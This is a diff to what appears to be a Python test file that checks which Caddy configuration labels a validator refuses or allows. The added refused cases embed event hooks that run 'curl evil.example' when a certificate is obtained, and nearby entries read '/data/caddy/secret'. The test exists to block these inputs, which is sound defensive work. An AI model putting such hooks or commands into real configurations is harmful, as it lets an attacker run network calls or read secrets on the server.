@@ -331,6 +331,8 @@ REFUSED = [
     ("templates", {"caddy": "(s)", "caddy.browse": "/srv/evil.html"}),
     ("templates", site(caddy__file_server__status="200 browse /srv/evil.html")),
     ("programs", {"caddy.events.on": "cert_obtained exec curl evil.example"}),
+    ("programs", {"caddy": "(s)", "caddy.events.on": "cert_obtained exec curl evil.example"}),
+    ("programs", {"caddy.import": "s", "caddy.import.events.on": "cert_obtained run curl evil.example"}),
     ("programs", site(caddy__exec="cat /data/caddy/secret")),
     ("global-options", {"caddy.default_bind": "127.0.0.9"}),
     ("global-options", {"caddy.auto_https": "off"}),
@@ -607,6 +609,11 @@ ALLOWED = [
     {"caddy.metrics.per_host": "", "caddy.key_type": "p384", "caddy.preferred_chains": "smallest"},
     {"caddy.pki.ca.maintenance_interval": "10m", "caddy.pki.ca.intermediate_lifetime": "30d"},
     {"caddy.cert_issuer": "internal", "caddy.cert_issuer.lifetime": "24h"},
+    site(
+        caddy__rate_limit__zone="all",
+        caddy__rate_limit__zone__key="{remote_host}",
+        caddy__rate_limit__zone__events="100",
+    ),
     {"caddy.storage_clean_interval": "off", "caddy.tls_resolvers": "1.1.1.1", "caddy.ech": "ech.example.org"},
 ]
 
